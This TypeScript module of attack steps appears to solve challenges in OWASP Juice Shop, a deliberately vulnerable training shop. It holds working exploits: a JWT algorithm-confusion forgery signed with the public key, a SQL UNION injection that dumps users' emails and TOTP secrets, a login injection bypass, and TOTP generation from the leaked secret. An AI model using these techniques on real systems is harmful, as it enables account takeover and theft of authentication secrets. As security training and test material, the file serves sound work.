import { createHmac } from 'node:crypto'
import { generateSync } from 'otplib'
import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus, postLogin } from '../../testing/attack-steps'

const base64url = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url')

/** The public key's exact text, as the shop serves it (raw, whatever its content type). */
export async function publicKeyText(target: AttackTarget): Promise<string> {
  const response = await request(target).get('/encryptionkeys/jwt.pub').buffer(true).parse((res, done) => {
    let text = ''
    res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')))
    res.on('end', () => done(null, text))
  })
  expectStatus(response, 200)
  return response.body as string
}

/** A token for `email` signed HS256 with the public key as the secret, which the verifier takes for RS256's key. */
export async function forgedToken(target: AttackTarget, email: string): Promise<string> {
  const signingInput = `${base64url({ typ: 'JWT', alg: 'HS256' })}.${base64url({ data: { email } })}`
  return `${signingInput}.${createHmac('sha256', await publicKeyText(target)).update(signingInput).digest('base64url')}`
}

/** The product search's injection that lists every user's email and TOTP secret as product names and descriptions. */
export const TOTP_SECRETS_UNION = "')) UNION SELECT id, email, totpSecret, 4, 5, 6, 7, 8, 9 FROM Users--"
export const WURSTBROT = 'wurstbrot@juice-sh.op'

/** Steals wurstbrot's TOTP secret, gets past his password by injection and passes his second factor. */
export async function passWurstbrotsSecondFactor(target: AttackTarget) {
  const search = expectStatus(await request(target).get('/rest/products/search').query({ q: TOTP_SECRETS_UNION }), 200)
  const leaked = (search.body.data as { name: string; description: string }[]).find((row) => row.name === WURSTBROT)
  if (!leaked?.description) throw new Error(`the search listed no TOTP secret for ${WURSTBROT}`)
  const login = expectStatus(await postLogin(target, `${WURSTBROT}'--`, 'x'), 401)
  const tmpToken = login.body?.data?.tmpToken
  if (typeof tmpToken !== 'string') throw new Error(`the login asked for no second factor: ${login.text.slice(0, 200)}`)
  const verify = await request(target).post('/rest/2fa/verify').send({ tmpToken, totpToken: generateSync({ secret: leaked.description }) })
  return { secret: leaked.description, verify: expectStatus(verify, 200) }
}

export const usersTokensAttacks = {
  jwtForgedChallenge: async (target) =>
    expectStatus(await request(target).get('/api/Users').set('Authorization', `Bearer ${await forgedToken(target, 'rsa_lord@juice-sh.op')}`), 200),
  twoFactorAuthUnsafeSecretStorageChallenge: passWurstbrotsSecondFactor,
} satisfies Attacks
